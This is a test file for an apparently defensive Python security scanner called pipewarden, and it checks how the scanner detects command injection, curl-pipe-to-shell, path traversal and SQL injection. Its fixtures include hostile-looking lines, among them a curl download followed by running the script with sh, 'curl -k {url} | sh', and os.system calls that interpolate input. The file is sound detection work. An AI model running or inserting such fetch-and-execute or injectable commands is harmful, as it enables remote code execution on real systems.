import { describe, expect, it } from 'vitest';
import { pythonAnalyzer } from '../../../src/analyzers/python/index.js';
import { pythonRules } from '../../../src/analyzers/python/rules/index.js';
import { MAX_COPIED_SYNTAX_NODES } from '../../../src/core/syntax-node-limit.js';
import { analyzePythonText, py, scan } from './scan.js';

describe('python analyzer', () => {
  it('exposes every rule for `pipewarden rules`', () => {
    expect(pythonAnalyzer.rules.map((r) => r.id)).toEqual(pythonRules.map((r) => r.id));
  });

  it('takes Python modules but not type stubs, which hold no code that runs', () => {
    const entry = { absPath: '/r/a.py', size: 1, kind: 'python' as const };
    expect(['jobs/load.py', 'typing/tests/data/reveal/npyio.pyi', 'stubs/x.PYI'].map((p) => pythonAnalyzer.required({ ...entry, path: p }))).toEqual([true, false, false]);
  });

  it('locates findings on the call, 1-based, with the line as snippet', () => {
    const [finding] = scan(py`
      import os

      def run(cmd):
          os.system(
              "sh -c " + cmd,
          )
    `);
    expect(finding?.location).toMatchObject({ file: 'job.py', startLine: 4, startColumn: 5, endLine: 6, endColumn: 6, snippet: 'os.system(' });
    expect(finding?.fingerprint).toMatch(/^[0-9a-f]{32}$/);
  });

  it('analyses the rest of a file with a syntax error and says where the error is', () => {
    const result = analyzePythonText('import os\ndef broken(:\n    pass\nos.system(f"rm {x}")\n');
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]!.message).toMatch(/syntax error near line 2/);
    expect(result.findings.map((f) => f.ruleId)).toContain('py.command-injection.os-system');
  });

  it('treats expressions too deep to prove literal as unknown, without failing', () => {
    const deep = `import os\ncmd = ${'['.repeat(20_000)}"ls"${']'.repeat(20_000)}\nos.system(cmd)\n`;
    const result = analyzePythonText(deep);
    expect(result.errors).toEqual([]);
    expect(result.findings.map((f) => [f.ruleId, f.confidence])).toEqual([['py.command-injection.os-system', 'medium']]);
  });

  it('stays fast on deeply nested calls and blocks', () => {
    const calls = `import os\nx = ${'f('.repeat(20_000)}${')'.repeat(20_000)}\nos.system(x)\n`;
    const started = performance.now();
    expect(scan(calls).map((f) => f.confidence)).toEqual(['medium']);
    expect(scan(nestedIfs(300, ' '))).toEqual([]);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('reads a deeply nested module that downloads and runs a file, and one with a command helper, without exhausting the stack', () => {
    const nested = `import os\ndef run(cmd):\n    os.system(cmd)\nx = ${'f('.repeat(20_000)}"curl -o a.sh https://x.example/a.sh"${')'.repeat(20_000)}\nos.system("curl -fsSLo /tmp/a.sh https://x.example/a.sh")\nrun("sh /tmp/a.sh")\n`;
    const result = analyzePythonText(nested);
    expect(result.errors).toEqual([]);
    expect(result.findings.filter((f) => f.ruleId === 'py.supply-chain.curl-pipe-shell').map((f) => f.message)).toEqual(['run: /tmp/a.sh, downloaded by curl, is run by sh without verification']);
  });

  it('refuses indentation deep enough to crash the grammar’s scanner, and says so', () => {
    for (const [levels, indent] of [[600, ' '], [60, '\t'.repeat(8)]] as const) {
      const result = analyzePythonText(nestedIfs(levels, indent));
      expect(result.findings).toEqual([]);
      expect(result.errors).toHaveLength(1);
      expect(result.errors[0]!.message).toMatch(/^line \d+ is indented \d+ columns; .* not analysed$/);
    }
  });

  it('refuses a file with more syntax nodes than one analysis holds, and says so', () => {
    const elements = MAX_COPIED_SYNTAX_NODES / 2 + 1;
    const result = analyzePythonText(`import pickle\npickle.loads(blob)\nTABLE = [${'7,'.repeat(elements)}]\n`);
    expect(result.findings).toEqual([]);
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]!.message).toMatch(
      /^the file has 750,0\d\d syntax nodes, more than the 750,000 one analysis holds in memory \(usually generated code or data\), so its code was not analysed$/,
    );
    expect(analyzePythonText(`import pickle\npickle.loads(blob)\nTABLE = [${'7,'.repeat(elements - 20)}]\n`).findings).toHaveLength(1);
  });

  it('counts backslash-joined lines into one indentation, as the scanner does', () => {
    const joined = `${' '.repeat(200)}\\\n${' '.repeat(200)}x = 1\n`;
    expect(analyzePythonText(joined).errors[0]?.message).toMatch(/^line 2 is indented 400 columns/);
  });

  it('does not mistake names of Object.prototype members for known callees', () => {
    expect(scan('def constructor(x):\n    return x\n\nconstructor(toString(valueOf(hasOwnProperty(f"{x}"))))\n')).toEqual([]);
  });

  it('lets a taint finding replace a pattern finding on its call only when it rates the call at least as severe', () => {
    const found = (source: string) => scan(source).map((f) => `${f.ruleId} ${f.severity}`).sort();
    // read from a data file: a high flow, which says what the pattern finding says and more
    expect(found(py`
      import tarfile
      import pandas as pd
      path = pd.read_csv("uploads.csv")["path"][0]
      with tarfile.open(path) as archive:
          archive.extractall("out")
    `)).toEqual(['py.taint.path-traversal high']);
    // the operator's own command line: a low flow, which must not hide the high pattern finding
    expect(found(py`
      import sys, tarfile
      with tarfile.open(sys.argv[1]) as archive:
          archive.extractall("out")
    `)).toEqual(['py.archive.tarfile-extractall high', 'py.taint.path-traversal low']);
  });

  it('reports several rules on one call independently', () => {
    const ids = scan('import subprocess\nsubprocess.run(f"curl -k {url} | sh", shell=True)\nimport os\nos.system(f"x {y}")\n').map((f) => f.ruleId);
    expect(ids).toEqual(['py.command-injection.subprocess-shell', 'py.tls.verify-disabled', 'py.supply-chain.curl-pipe-shell', 'py.command-injection.os-system']);
  });

  it('analyses a large generated pipeline module quickly', () => {
    const lines = ['import pandas as pd', 'import subprocess', 'import yaml'];
    for (let i = 0; i < 3000; i++) {
      lines.push(`def step_${i}(df, cfg):`, `    q${i} = f"SELECT * FROM t_${i} WHERE ds = '{cfg.ds}'"`, `    cur.execute(q${i})`, `    return yaml.safe_load(cfg.raw)`);
    }
    const started = performance.now();
    const findings = scan(lines.join('\n'), 'py.sql-injection.formatted-query');
    expect(findings).toHaveLength(3000);
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});

/** `levels` nested if-blocks, each indented one `indent` deeper, rebuilding a string. */
function nestedIfs(levels: number, indent: string): string {
  const lines = ['import os', 'q = "ls"'];
  for (let i = 0; i < levels; i++) lines.push(`${indent.repeat(i)}if c${i}:`, `${indent.repeat(i + 1)}q = q + "x"`);
  lines.push('os.system(q)', '');
  return lines.join('\n');
}
